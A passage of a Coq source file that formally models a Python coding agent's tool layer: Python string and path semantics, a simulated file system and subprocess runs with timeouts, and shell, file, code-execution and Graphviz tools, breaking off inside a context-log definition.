(** * CodingAgent: tool execution and job lifecycle

    A shallow embedding of [agent.py] and [server.py].  Python values are
    modelled by first-order data, the host (file system, child processes,
    random identifiers, clock) by an explicit [world] threaded through a
    state-and-exception monad, and everything the host decides on its own
    (what a child process does, which identifier [uuid.uuid4()] returns)
    by an [env] of oracles.  Permissions are not modelled: the process
    may read, write and remove every ordinary file it reaches. *)

From Stdlib Require Import ZArith Ascii String DecimalString.
From stdpp Require Import base option list gmap strings.

Local Open Scope Z_scope.
Local Open Scope string_scope.

(** ** Python strings

    A [str] is a sequence of code points; the embedding keeps the code
    points below 256, one per [ascii]. *)
Module PyStr.

(** [str.isspace] on one code point below 256. *)
Definition isspace (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((9 <=? n) && (n <=? 13) || (28 <=? n) && (n <=? 32)
   || (n =? 133) || (n =? 160))%N.

(** [s.split()]: maximal runs of non-whitespace, in order.  [cur] is the
    run being read, last character first. *)
Fixpoint split_from (cur : list ascii) (s : string) : list string :=
  match s with
  | EmptyString =>
      match cur with
      | [] => []
      | _ => [string_of_list_ascii (rev cur)]
      end
  | String c s' =>
      if isspace c then
        match cur with
        | [] => split_from [] s'
        | _ => string_of_list_ascii (rev cur) :: split_from [] s'
        end
      else split_from (c :: cur) s'
  end.

Definition split (s : string) : list string := split_from [] s.

(** [s.split(sep)] for a one-character separator: every piece, the empty
    ones included. *)
Fixpoint split_on_from (sep : ascii) (cur : list ascii) (s : string)
  : list string :=
  match s with
  | EmptyString => [string_of_list_ascii (rev cur)]
  | String c s' =>
      if Ascii.eqb c sep
      then string_of_list_ascii (rev cur) :: split_on_from sep [] s'
      else split_on_from sep (c :: cur) s'
  end.

Definition split_on (sep : ascii) (s : string) : list string :=
  split_on_from sep [] s.

(** [sep.join(l)]. *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => ""
  | [x] => x
  | x :: l' => x +:+ sep +:+ join sep l'
  end.

(** [str.lower] on one code point below 256: A-Z and the accented
    capitals 192-222 except the multiplication sign 215. *)
Definition lower_char (c : ascii) : ascii :=
  let n := N_of_ascii c in
  if ((65 <=? n) && (n <=? 90)
      || (192 <=? n) && (n <=? 222) && negb (n =? 215))%N
  then ascii_of_N (n + 32) else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [sub in s]. *)
Fixpoint contains (sub s : string) : bool :=
  String.prefix sub s
  || match s with
     | EmptyString => false
     | String _ s' => contains sub s'
     end.

(** The character [c] occurs in [s]. *)
Fixpoint has_char (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String d s' => Ascii.eqb d c || has_char c s'
  end.

(** [str(n)] for an [int]. *)
Definition of_int (n : Z) : string := NilZero.string_of_int (Z.to_int n).

(** The digit of [n], below 16, in lower case. *)
Definition hex_digit (n : N) : ascii :=
  ascii_of_N (if (n <? 10)%N then 48 + n else 87 + n).

(** [str.isprintable] on one code point below 256. *)
Definition isprintable (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((32 <=? n) && (n <=? 126) || (161 <=? n) && negb (n =? 173))%N.

(** One code point as [repr] writes it between quotes [q]: the quote
    and the backslash (code 92) after a backslash, line feed, carriage
    return and tab as the letters n, r and t after one, what does not
    print as x and two hexadecimal digits after one. *)
Definition repr_char (q c : ascii) : string :=
  let escaped (s : string) : string := String "092" s in
  if Ascii.eqb c q || Ascii.eqb c "092" then escaped (String c EmptyString)
  else if Ascii.eqb c "010" then escaped "n"
  else if Ascii.eqb c "013" then escaped "r"
  else if Ascii.eqb c "009" then escaped "t"
  else if isprintable c then String c EmptyString
  else
    let n := N_of_ascii c in
    escaped (String "x" (String (hex_digit (n / 16))
                           (String (hex_digit (n mod 16)) EmptyString))).

Fixpoint repr_body (q : ascii) (s : string) : string :=
  match s with
  | EmptyString => String q EmptyString
  | String c s' => repr_char q c +:+ repr_body q s'
  end.

(** [repr(s)] for a [str]: between apostrophes, or between double
    quotes when [s] holds an apostrophe and no double quote; the quote
    used, the backslash and what does not print are escaped. *)
Definition repr (s : string) : string :=
  let q : ascii :=
    if has_char "'" s && negb (has_char "034" s)
    then "034"%char else "'"%char in
  String q (repr_body q s).

(** [repr(l)] for a list of strings. *)
Definition repr_list (l : list string) : string :=
  "[" +:+ join ", " (map repr l) +:+ "]".

(** Text-mode reading ([newline=None]): every line ending, CR LF or a
    lone CR, becomes LF. *)
Fixpoint universal_newlines (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if Ascii.eqb c "013" then
        match s' with
        | String d s'' =>
            if Ascii.eqb d "010"
            then String "010" (universal_newlines s'')
            else String "010" (universal_newlines s')
        | EmptyString => String "010" EmptyString
        end
      else String c (universal_newlines s')
  end.

End PyStr.

(** ** Exceptions and results *)

(** The exceptions ([Exception] subclasses) the modelled code can meet;
    each carries what [str(e)] prints. *)
Inductive exn :=
| FileNotFoundError (filename : string)
| FileExistsError (filename : string)
| NotADirectoryError (filename : string)
| IsADirectoryError (filename : string)
| SameFileError (src dst : string)
| TimeoutExpired (cmd : string) (timeout : Z)
| KeyError (key : string)
| ValueError (message : string)
| UnicodeDecodeError (message : string)
| OSError (message : string).

(** [str(e)]. *)
Definition exn_str (e : exn) : string :=
  match e with
  | FileNotFoundError f =>
      "[Errno 2] No such file or directory: " +:+ PyStr.repr f
  | FileExistsError f => "[Errno 17] File exists: " +:+ PyStr.repr f
  | NotADirectoryError f => "[Errno 20] Not a directory: " +:+ PyStr.repr f
  | IsADirectoryError f => "[Errno 21] Is a directory: " +:+ PyStr.repr f
  | SameFileError s d =>
      PyStr.repr s +:+ " and " +:+ PyStr.repr d +:+ " are the same file"
  | TimeoutExpired c t =>
      "Command '" +:+ c +:+ "' timed out after " +:+ PyStr.of_int t
      +:+ " seconds"
  | KeyError k => PyStr.repr k
  | ValueError m => m
  | UnicodeDecodeError m => m
  | OSError m => m
  end.

(** How a call ends: it returns a value or raises. *)
Inductive res (A : Type) :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

(** The dictionaries the tools return, one constructor per set of keys. *)
Inductive tool_result :=
| ROutput (stdout stderr : string) (returncode : Z)
| RError (error : string)
| RPath (path : string)
| RContent (content : string).

(** The keys of the dictionary, in insertion order. *)
Definition result_keys (r : tool_result) : list string :=
  match r with
  | ROutput _ _ _ => ["stdout"; "stderr"; "returncode"]
  | RError _ => ["error"]
  | RPath _ => ["success"; "path"]
  | RContent _ => ["success"; "content"]
  end.

(** The one shape every caught exception is returned in:
    [{"error": str(e)}]. *)
Definition is_generic_error (r : tool_result) : bool :=
  match r with
  | RError _ => true
  | _ => false
  end.

(** [result.get("stdout", default)]. *)
Definition get_stdout (r : tool_result) (default : string) : string :=
  match r with
  | ROutput out _ _ => out
  | _ => default
  end.

(** ** The host *)

(** A node of the file system, stored under its location: the list of
    directory names leading to it from the root.  A [File] is an
    ordinary file, which keeps what is written to it.  A [Special] node
    is anything else that is no directory and keeps nothing: a device
    such as [/dev/null], a pipe, a socket, an entry of [/proc];
    [regular] says whether [stat] calls it a regular file, as it does
    the entries of [/proc], and [device] names it for the host, which
    decides what writing to it, reading from it and removing it do. *)
Inductive node :=
| File (content : string)
| Dir
| Special (regular : bool) (device : string).

#[global] Instance node_eq_dec : EqDecision node.
Proof. solve_decision. Defined.

(** What [subprocess.run] is asked to start. *)
Inductive cmdline :=
| Shell (command : string)
| Argv (args : list string).

Record launch := {
  l_cmd : cmdline;
  l_cwd : option string;
  l_timeout : Z
}.

(** What [communicate] read from a pipe of the child: bytes that decode
    as text, held decoded with the line endings translated, or bytes
    that do not, with the message of the [UnicodeDecodeError]. *)
Inductive captured :=
| Text (s : string)
| Undecodable (message : string).

(** What the child does, as the host decides it.  It cannot be started:
    the program is not found, an argument holds a NUL, and the like.
    Or [communicate] returns within the timeout: the child has exited
    and its output pipes are closed.  Or [communicate] is still waiting
    when the timeout expires: the child is running, or a process it
    started holds a pipe open.  The file system is the one the child
    leaves; [orphans] names the processes the child started itself that
    are alive when it is gone, as the command of a shell is when the
    shell is killed. *)
Inductive run_outcome :=
| LaunchError (e : exn)
| Exits (stdout stderr : captured) (returncode : Z)
        (fs' : gmap (list string) node) (orphans : list string)
| Overruns (fs' : gmap (list string) node) (orphans : list string).

(** A process alive on the host: a child the code started, by its
    position in [w_launched], or a process such a child started and
    left behind. *)
Inductive proc :=
| Child (pid : nat)
| Orphan (parent : nat) (name : string).

#[global] Instance proc_eq_dec : EqDecision proc.
Proof. solve_decision. Defined.

(** An entry of the agent's context log. *)
Record entry := {
  entry_time : Z;
  entry_source : string;
  entry_message : string
}.

Record world := {
  w_fs : gmap (list string) node;
  w_uuids : nat;            (* identifiers drawn so far *)
  w_ticks : nat;            (* clock readings taken so far *)
  w_launched : list launch; (* children started so far, oldest first *)
  w_running : list proc;    (* processes alive *)
  w_context : list entry    (* current_context of the agent at work *)
}.

Record env := {
  e_cwd : list string;              (* the server's working directory *)
  e_uuid : nat -> string;           (* str(uuid.uuid4()), call by call *)
  e_time : nat -> Z;                (* time.time(), reading by reading *)
  e_today : nat -> string;          (* time.strftime("%Y-%m-%d") *)
  e_run : launch -> gmap (list string) node -> run_outcome;
  e_special_write : string -> string -> res unit;
                                    (* open(p, 'w') and write, p special *)
  e_special_read : string -> res string;  (* open(p, 'rb').read() *)
  e_special_unlink : string -> option exn; (* None when it is removed *)
  e_json_dump : entry -> string;    (* json.dump of an entry *)
  e_json_load : string -> option entry  (* json.load; None when it raises *)
}.

Definition set_fs (fs : gmap (list string) node) (w : world) : world :=
  {| w_fs := fs; w_uuids := w_uuids w; w_ticks := w_ticks w;
     w_launched := w_launched w; w_running := w_running w;
     w_context := w_context w |}.

(** ** State and exceptions *)

Definition M (A : Type) : Type := world -> res A * world.

Definition ret {A} (a : A) : M A := fun w => (Ok a, w).
Definition raise {A} (e : exn) : M A := fun w => (Raise e, w).
Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w =>
    match m w with
    | (Ok a, w') => k a w'
    | (Raise e, w') => (Raise e, w')
    end.

(** [try: m  except Exception as e: h e]. *)
Definition try_except {A} (m : M A) (h : exn -> M A) : M A :=
  fun w =>
    match m w with
    | (Ok a, w') => (Ok a, w')
    | (Raise e, w') => h e w'
    end.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 100, m at next level, right associativity) : py_scope.
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 100, right associativity) : py_scope.
Local Open Scope py_scope.

(** Lift a file-system query and a file-system update. *)
Definition fs_query {A} (f : gmap (list string) node -> res A) : M A :=
  fun w => (f (w_fs w), w).

Definition fs_update
    (f : gmap (list string) node -> res (gmap (list string) node)) : M unit :=
  fun w =>
    match f (w_fs w) with
    | Ok fs' => (Ok tt, set_fs fs' w)
    | Raise e => (Raise e, w)
    end.

(** [for x in l: body x]. *)
Fixpoint for_each {A} (l : list A) (body : A -> M unit) : M unit :=
  match l with
  | [] => ret tt
  | x :: l' => body x ;;; for_each l' body
  end.

(** ** Paths ([pathlib.PurePosixPath]) *)

Record ppath := {
  p_anchor : string;       (* "", "/" or "//" *)
  p_parts : list string    (* the components, ".." kept *)
}.

Module Path.

Fixpoint leading_slashes (s : string) : nat :=
  match s with
  | String c s' => if Ascii.eqb c "/" then S (leading_slashes s') else 0%nat
  | EmptyString => 0%nat
  end.

Definition is_component (n : string) : bool :=
  negb (String.eqb n "") && negb (String.eqb n ".").

(** [Path(s)]: empty components and "." are dropped, ".." is kept;
    exactly two leading slashes are kept apart, as POSIX asks. *)
Definition of_str (s : string) : ppath :=
  {| p_anchor := match leading_slashes s with
                 | 0%nat => ""
                 | 2%nat => "//"
                 | _ => "/"
                 end;
     p_parts := List.filter is_component (PyStr.split_on "/" s) |}.

(** [str(p)]. *)
Definition to_str (p : ppath) : string :=
  match p_parts p with
  | [] => if String.eqb (p_anchor p) "" then "." else p_anchor p
  | _ => p_anchor p +:+ PyStr.join "/" (p_parts p)
  end.

Definition is_absolute (p : ppath) : bool :=
  negb (String.eqb (p_anchor p) "").

(** [p / q]: an absolute right operand replaces the left one. *)
Definition join (p q : ppath) : ppath :=
  if is_absolute q then q
  else {| p_anchor := p_anchor p; p_parts := p_parts p ++ p_parts q |}.

(** [p / s] for a string [s]. *)
Definition div (p : ppath) (s : string) : ppath := join p (of_str s).

(** [p.parent]; the parent of an anchor is itself. *)
Definition parent (p : ppath) : ppath :=
  {| p_anchor := p_anchor p; p_parts := removelast (p_parts p) |}.

(** [p.name]. *)
Definition name (p : ppath) : string := List.last (p_parts p) "".

(** [l] without its prefix [pre], when it starts with it. *)
Fixpoint strip (pre l : list string) : option (list string) :=
  match pre, l with
  | [], _ => Some l
  | a :: pre', b :: l' => if String.eqb a b then strip pre' l' else None
  | _ :: _, [] => None
  end.

(** [p.relative_to(base)]: purely lexical. *)
Definition relative_to (p base : ppath) : res ppath :=
  if String.eqb (p_anchor p) (p_anchor base) then
    match strip (p_parts base) (p_parts p) with
    | Some rel => Ok {| p_anchor := ""; p_parts := rel |}
    | None =>
        Raise (ValueError (PyStr.repr (to_str p) +:+ " is not in the subpath of "
                           +:+ PyStr.repr (to_str base)))
    end
  else
    Raise (ValueError (PyStr.repr (to_str p) +:+ " is not in the subpath of "
                       +:+ PyStr.repr (to_str base))).

End Path.

Notation "p // s" := (Path.div p s) (at level 40, left associativity).

(** ** The file system, as the kernel resolves paths *)
Module FS.

(** The node at a location; the root is a directory. *)
Definition stat (fs : gmap (list string) node) (loc : list string)
  : option node :=
  match loc with
  | [] => Some Dir
  | _ => fs !! loc
  end.

Definition is_dir_at (fs : gmap (list string) node) (loc : list string)
  : bool :=
  match stat fs loc with
  | Some Dir => true
  | _ => false
  end.

(** One step of path resolution from directory [loc]. *)
Definition enter (loc : list string) (n : string) : list string :=
  if String.eqb n ".." then removelast loc else loc ++ [n].

(** Resolve the components [names] from [loc]: every location that is
    left must be a directory; the last one reached is not looked at. *)
Fixpoint walk (fs : gmap (list string) node) (f : string)
    (loc : list string) (names : list string) : res (list string) :=
  match names with
  | [] => Ok loc
  | n :: names' =>
      match stat fs loc with
      | Some Dir => walk fs f (enter loc n) names'
      | Some _ => Raise (NotADirectoryError f)
      | None => Raise (FileNotFoundError f)
      end
  end.

Section WithEnv.
Context (E : env).

Definition start (p : ppath) : list string :=
  if Path.is_absolute p then [] else e_cwd E.

(** No component holds a NUL. *)
Definition names_ok (p : ppath) : bool :=
  forallb (fun n => negb (PyStr.has_char "000" n)) (p_parts p).

(** The location a path names; a path with a NUL in it is refused
    before the kernel sees it. *)
Definition locate (p : ppath) (fs : gmap (list string) node)
  : res (list string) :=
  if names_ok p then walk fs (Path.to_str p) (start p) (p_parts p)
  else Raise (ValueError "embedded null byte").

(** [p.is_file()], [p.is_dir()]: false on any error. *)
Definition is_file (p : ppath) (fs : gmap (list string) node) : bool :=
  match locate p fs with
  | Ok loc =>
      match stat fs loc with
      | Some (File _) => true
      | Some (Special regular _) => regular
      | _ => false
      end
  | Raise _ => false
  end.

Definition is_dir (p : ppath) (fs : gmap (list string) node) : bool :=
  match locate p fs with
  | Ok loc => is_dir_at fs loc
  | Raise _ => false
  end.

(** [os.mkdir(p)]. *)
Definition os_mkdir (p : ppath) (fs : gmap (list string) node)
  : res (gmap (list string) node) :=
  match locate p fs with
  | Ok loc =>
      match stat fs loc with
      | Some _ => Raise (FileExistsError (Path.to_str p))
      | None => Ok (<[loc := Dir]> fs)
      end
  | Raise e => Raise e
  end.

(** [p.mkdir(parents=False, exist_ok=exist_ok)]. *)
Definition mkdir1 (exist_ok : bool) (p : ppath)
    (fs : gmap (list string) node) : res (gmap (list string) node) :=
  match os_mkdir p fs with
  | Ok fs' => Ok fs'
  | Raise (FileNotFoundError f) => Raise (FileNotFoundError f)
  | Raise e => if exist_ok && is_dir p fs then Ok fs else Raise e
  end.

(** [p.mkdir(parents=True, exist_ok=exist_ok)], by recursion on the
    components of [p], last one first: when [os.mkdir] finds no
    parent, the parent is made first and [os.mkdir] tried again. *)
Fixpoint mkdir_parents (exist_ok : bool) (anchor : string)
    (rparts : list string) (fs : gmap (list string) node)
  : res (gmap (list string) node) :=
  let p := {| p_anchor := anchor; p_parts := rev rparts |} in
  match os_mkdir p fs with
  | Ok fs' => Ok fs'
  | Raise (FileNotFoundError f) =>
      match rparts with
      | [] => Raise (FileNotFoundError f)
      | _ :: rparent =>
          match mkdir_parents true anchor rparent fs with
          | Ok fs1 => mkdir1 exist_ok p fs1
          | Raise e => Raise e
          end
      end
  | Raise e => if exist_ok && is_dir p fs then Ok fs else Raise e
  end.

(** [p.mkdir(parents=parents, exist_ok=exist_ok)]. *)
Definition mkdir (parents exist_ok : bool) (p : ppath)
    (fs : gmap (list string) node) : res (gmap (list string) node) :=
  if parents then mkdir_parents exist_ok (p_anchor p) (rev (p_parts p)) fs
  else mkdir1 exist_ok p fs.

(** [with open(p, 'w') as f: f.write(content)], and the same in mode
    ['wb']: an ordinary file is created or truncated and keeps the
    content; a special file keeps nothing, and the host says whether
    the write goes through.  Text mode writes LF as the host's line
    separator, which is LF itself on the Linux host the fixed paths
    belong to. *)
Definition write_file (p : ppath) (content : string)
    (fs : gmap (list string) node) : res (gmap (list string) node) :=
  match locate p fs with
  | Ok loc =>
      match stat fs loc with
      | Some Dir => Raise (IsADirectoryError (Path.to_str p))
      | Some (Special _ device) =>
          match e_special_write E device content with
          | Ok _ => Ok fs
          | Raise e => Raise e
          end
      | _ => Ok (<[loc := File content]> fs)
      end
  | Raise e => Raise e
  end.

(** [open(p, 'rb').read()]: the stored text as it is, or what the host
    gives for a special file. *)
Definition read_bytes (p : ppath) (fs : gmap (list string) node)
  : res string :=
  match locate p fs with
  | Ok loc =>
      match stat fs loc with
      | Some (File c) => Ok c
      | Some (Special _ device) => e_special_read E device
      | Some Dir => Raise (IsADirectoryError (Path.to_str p))
      | None => Raise (FileNotFoundError (Path.to_str p))
      end
  | Raise e => Raise e
  end.

(** [with open(p, 'r') as f: f.read()]: text mode translates line
    endings. *)
Definition read_text (p : ppath) (fs : gmap (list string) node)
  : res string :=
  match read_bytes p fs with
  | Ok c => Ok (PyStr.universal_newlines c)
  | Raise e => Raise e
  end.

(** [p.unlink()]. *)
Definition unlink (p : ppath) (fs : gmap (list string) node)
  : res (gmap (list string) node) :=
  match locate p fs with
  | Ok loc =>
      match stat fs loc with
      | Some (File _) => Ok (delete loc fs)
      | Some (Special _ device) =>
          match e_special_unlink E device with
          | None => Ok (delete loc fs)
          | Some e => Raise e
          end
      | Some Dir => Raise (IsADirectoryError (Path.to_str p))
      | None => Raise (FileNotFoundError (Path.to_str p))
      end
  | Raise e => Raise e
  end.

(** A name a directory can hold. *)
Definition is_entry_name (n : string) : bool :=
  negb (String.eqb n "") && negb (String.eqb n ".")
  && negb (String.eqb n "..") && negb (PyStr.has_char "/" n)
  && negb (PyStr.has_char "000" n).

(** The entries below the directory at [loc], each by its names
    relative to [loc]: those stored under [loc] that a walk down from
    [loc] reaches through directories only. *)
Definition below (fs : gmap (list string) node) (loc : list string)
  : list (list string) :=
  List.filter
    (fun rel =>
       match rel with
       | [] => false
       | _ =>
           forallb is_entry_name rel
           && match walk fs "" loc rel with Ok _ => true | Raise _ => false end
       end)
    (omap (fun kv => Path.strip loc (fst kv)) (map_to_list fs)).

(** [p.glob("**/*")]: every entry below [p], files and directories;
    nothing when [p] is no directory. *)
Definition glob_rec (p : ppath) (fs : gmap (list string) node)
  : list ppath :=
  if is_dir p fs then
    match locate p fs with
    | Ok loc =>
        (fun rel => {| p_anchor := p_anchor p;
                       p_parts := p_parts p ++ rel |})
          <$> below fs loc
    | Raise _ => []
    end
  else [].

(** [p.glob("*")]: the entries of the directory itself. *)
Definition glob_children (p : ppath) (fs : gmap (list string) node)
  : list ppath :=
  List.filter
    (fun q => Nat.eqb (length (p_parts q)) (S (length (p_parts p))))
    (glob_rec p fs).

(** [os.path.samefile(a, b)], false when either is missing. *)
Definition samefile (a b : ppath) (fs : gmap (list string) node) : bool :=
  match locate a fs, locate b fs with
  | Ok la, Ok lb =>
      match stat fs la, stat fs lb with
      | Some _, Some _ => bool_decide (la = lb)
      | _, _ => false
      end
  | _, _ => false
  end.

(** [shutil.copy2(src, dst)]: a destination that is a directory
    stands for the entry of the source's name in it; copying a file
    onto itself is an error; the content is read and written in
    binary mode.  The metadata [copy2] also copies is not modelled. *)
Definition copy2 (src dst : ppath) (fs : gmap (list string) node)
  : res (gmap (list string) node) :=
  let dst' := if is_dir dst fs then dst // Path.name src else dst in
  if samefile src dst' fs then
    Raise (SameFileError (Path.to_str src) (Path.to_str dst'))
  else
    match read_bytes src fs with
    | Ok c => write_file dst' c fs
    | Raise e => Raise e
    end.

End WithEnv.

End FS.

(** ** Child processes ([subprocess.run]) *)
Module Subprocess.

(** [Popen]: the child joins the children started and the processes
    alive; its number is its position among the children started. *)
Definition spawn (l : launch) (w : world) : world :=
  {| w_fs := w_fs w; w_uuids := w_uuids w; w_ticks := w_ticks w;
     w_launched := w_launched w ++ [l];
     w_running := Child (length (w_launched w)) :: w_running w;
     w_context := w_context w |}.

(** The child is gone: it exited and was waited for, or was killed and
    waited for.  Nothing is done about the processes it started: the
    ones it left are alive, and nobody's children. *)
Definition reap (pid : nat) (orphans : list string) (w : world) : world :=
  {| w_fs := w_fs w; w_uuids := w_uuids w; w_ticks := w_ticks w;
     w_launched := w_launched w;
     w_running :=
       (Orphan pid <$> orphans)
       ++ List.filter (fun q => negb (bool_decide (q = Child pid)))
            (w_running w);
     w_context := w_context w |}.

(** The [cmd] field of [TimeoutExpired], as [str] formats it. *)
Definition cmd_str (c : cmdline) : string :=
  match c with
  | Shell s => s
  | Argv a => PyStr.repr_list a
  end.

Section WithEnv.
Context (E : env).

(** The [chdir(cwd)] of the child before it runs the program: the
    error [Popen] raises for it, named after [cwd] as it was given. *)
Definition chdir_error (cwd : string) (fs : gmap (list string) node)
  : option exn :=
  match FS.locate E (Path.of_str cwd) fs with
  | Ok loc =>
      match FS.stat fs loc with
      | Some Dir => None
      | Some _ => Some (NotADirectoryError cwd)
      | None => Some (FileNotFoundError cwd)
      end
  | Raise (NotADirectoryError _) => Some (NotADirectoryError cwd)
  | Raise (FileNotFoundError _) => Some (FileNotFoundError cwd)
  | Raise e => Some e
  end.

(** The two captured streams as text: standard output is decoded
    first. *)
Definition decode (out err : captured) : res (string * string) :=
  match out, err with
  | Text o, Text e => Ok (o, e)
  | Undecodable m, _ => Raise (UnicodeDecodeError m)
  | Text _, Undecodable m => Raise (UnicodeDecodeError m)
  end.

(** [subprocess.run(cmd, cwd=cwd, capture_output=True, text=True,
    timeout=timeout)].  A working directory the child cannot enter, or
    a program the host cannot start, makes [Popen] raise before any
    child exists.  Otherwise the child is started.  [communicate]
    returns its output when it has exited, decoded as text, or raises
    the [UnicodeDecodeError]; or it raises [TimeoutExpired], upon which
    [run] kills the child, waits for it and raises again.  The child
    is the process [Popen] started, the shell when there is one: what
    that process started itself is neither killed nor waited for. *)
Definition run (l : launch) : M (string * string * Z) :=
  fun w =>
    match from_option (fun d => chdir_error d (w_fs w)) None (l_cwd l) with
    | Some e => (Raise e, w)
    | None =>
        match e_run E l (w_fs w) with
        | LaunchError e => (Raise e, w)
        | Exits out err rc fs' orphans =>
            let pid := length (w_launched w) in
            let w' := reap pid orphans (set_fs fs' (spawn l w)) in
            match decode out err with
            | Ok (o, e) => (Ok (o, e, rc), w')
            | Raise ex => (Raise ex, w')
            end
        | Overruns fs' orphans =>
            let pid := length (w_launched w) in
            (Raise (TimeoutExpired (cmd_str (l_cmd l)) (l_timeout l)),
             reap pid orphans (set_fs fs' (spawn l w)))
        end
    end.

End WithEnv.

End Subprocess.

(** [uuid.uuid4()], [time.time()], [time.strftime("%Y-%m-%d")]. *)
Definition uuid4 (E : env) : M string :=
  fun w =>
    (Ok (e_uuid E (w_uuids w)),
     {| w_fs := w_fs w; w_uuids := S (w_uuids w); w_ticks := w_ticks w;
        w_launched := w_launched w; w_running := w_running w;
     w_context := w_context w |}).

Definition tick (w : world) : world :=
  {| w_fs := w_fs w; w_uuids := w_uuids w; w_ticks := S (w_ticks w);
     w_launched := w_launched w; w_running := w_running w;
     w_context := w_context w |}.

Definition time_time (E : env) : M Z :=
  fun w => (Ok (e_time E (w_ticks w)), tick w).

Definition strftime_day (E : env) : M string :=
  fun w => (Ok (e_today E (w_ticks w)), tick w).

(** ** agent.py: the tools *)

(** [Tool.__init__]: every tool keeps its workspace directory and makes
    sure it exists. *)
Definition Tool_init (E : env) (workspace_dir : ppath) : M ppath :=
  fs_update (FS.mkdir E true true workspace_dir) ;;;
  ret workspace_dir.

Module ShellTool.

Record t := {
  workspace_dir : ppath;
  allowed_commands : gset string
}.

(** The arguments of the [subprocess.run] call in [execute]: the
    command as it was given, for a shell, in the workspace, with a
    timeout of 30 seconds. *)
Definition request (self : t) (command : string) : launch :=
  {| l_cmd := Shell command;
     l_cwd := Some (Path.to_str (workspace_dir self));
     l_timeout := 30 |}.

Section WithEnv.
Context (E : env).

Definition init (dir : ppath) : M t :=
  d <- Tool_init E dir ;;
  ret {| workspace_dir := d;
         allowed_commands :=
           {[ "ls"; "cat"; "echo"; "mkdir"; "touch"; "rm"; "cp"; "mv";
              "npm"; "npx"; "node"; "python"; "pip" ]} |}.

Definition execute (self : t) (command : string) : M tool_result :=
  let cmd_parts := PyStr.split command in
  match cmd_parts with
  | [] => ret (RError "Empty command")
  | base_cmd :: _ =>
      if negb (bool_decide (base_cmd ∈ allowed_commands self)) then
        ret (RError ("Command not allowed: " +:+ base_cmd))
      else
        try_except
          (result <- Subprocess.run E (request self command) ;;
           let '(stdout, stderr, returncode) := result in
           ret (ROutput stdout stderr returncode))
          (fun e => ret (RError (exn_str e)))
  end.

End WithEnv.

End ShellTool.

Module FilesystemTool.

Record t := { workspace_dir : ppath }.

Section WithEnv.
Context (E : env).

Definition init (dir : ppath) : M t :=
  d <- Tool_init E dir ;;
  ret {| workspace_dir := d |}.

Definition create_file (self : t) (filename content : string)
  : M tool_result :=
  try_except
    (let file_path := workspace_dir self // filename in
     fs_update (FS.mkdir E true true (Path.parent file_path)) ;;;
     fs_update (FS.write_file E file_path content) ;;;
     ret (RPath (Path.to_str file_path)))
    (fun e => ret (RError (exn_str e))).

Definition read_file (self : t) (filename : string) : M tool_result :=
  try_except
    (let file_path := workspace_dir self // filename in
     content <- fs_query (FS.read_text E file_path) ;;
     ret (RContent content))
    (fun e => ret (RError (exn_str e))).

End WithEnv.

End FilesystemTool.

Module CodeExecutionTool.

Record t := { workspace_dir : ppath }.

(** The temporary file of a run: [temp_<uuid><extension>] in the
    workspace. *)
Definition temp_path (self : t) (u extension : string) : ppath :=
  workspace_dir self // ("temp_" +:+ u +:+ extension).

(** The arguments of the [subprocess.run] call: the interpreter on the
    temporary file, in the workspace, with a timeout of 30 seconds. *)
Definition request (self : t) (interpreter : string) (temp_file : ppath)
  : launch :=
  {| l_cmd := Argv [interpreter; Path.to_str temp_file];
     l_cwd := Some (Path.to_str (workspace_dir self));
     l_timeout := 30 |}.

Section WithEnv.
Context (E : env).

Definition init (dir : ppath) : M t :=
  d <- Tool_init E dir ;;
  ret {| workspace_dir := d |}.

(** The body shared by [run_python] and [run_javascript], which differ
    in the interpreter and the extension only. *)
Definition run_snippet (interpreter extension : string) (self : t)
    (code : string) : M tool_result :=
  try_except
    (u <- uuid4 E ;;
     let temp_file := temp_path self u extension in
     fs_update (FS.write_file E temp_file code) ;;;
     result <- Subprocess.run E (request self interpreter temp_file) ;;
     fs_update (FS.unlink E temp_file) ;;;
     let '(stdout, stderr, returncode) := result in
     ret (ROutput stdout stderr returncode))
    (fun e => ret (RError (exn_str e))).

Definition run_python : t -> string -> M tool_result :=
  run_snippet "python3" ".py".

Definition run_javascript : t -> string -> M tool_result :=
  run_snippet "node" ".js".

End WithEnv.

End CodeExecutionTool.

Module XdotTool.

Record t := { workspace_dir : ppath }.

Section WithEnv.
Context (E : env).

Definition init (dir : ppath) : M t :=
  d <- Tool_init E dir ;;
  ret {| workspace_dir := d |}.

Definition create_graph (self : t) (graph_def output_file : string)
  : M tool_result :=
  try_except
    (u <- uuid4 E ;;
     let dot_file := workspace_dir self // ("temp_" +:+ u +:+ ".dot") in
     fs_update (FS.write_file E dot_file graph_def) ;;;
     let output_path := workspace_dir self // output_file in
     fs_update (FS.mkdir E true true (Path.parent output_path)) ;;;
     result <- Subprocess.run E
                 {| l_cmd := Argv ["dot"; "-Tpng"; Path.to_str dot_file;
                                   "-o"; Path.to_str output_path];
                    l_cwd := None;
                    l_timeout := 10 |} ;;
     fs_update (FS.unlink E dot_file) ;;;
     let '(_, stderr, returncode) := result in
     if negb (Z.eqb returncode 0) then ret (RError stderr)
     else ret (RPath (Path.to_str output_path)))
    (fun e => ret (RError (exn_str e))).

End WithEnv.

End XdotTool.

(** ** agent.py: the context log *)
Module ContextManager.

Record t := { context_dir : ppath }.

(** [sorted(l)] for paths of one directory, which are ordered as their
    names are. *)
Fixpoint insert_sorted (p : ppath) (l : list ppath) : list ppath :=
  match l with
  | [] => [p]
  | q :: l' =>
      if String.leb (Path.name p) (Path.name q) then p :: q :: l'
      else q :: insert_sorted p l'
  end.

Definition sorted (l : list ppath) : list ppath :=
  fold_right insert_sorted [] l.

(** [name] matches the pattern [*.json]. *)
Definition is_json (p : ppath) : bool :=
  String.prefix "nosj." (string_of_list_ascii
                           (rev (list_ascii_of_string (Path.name p)))).

Definition append (e : entry) : M unit :=
  fun w =>
    (Ok tt,
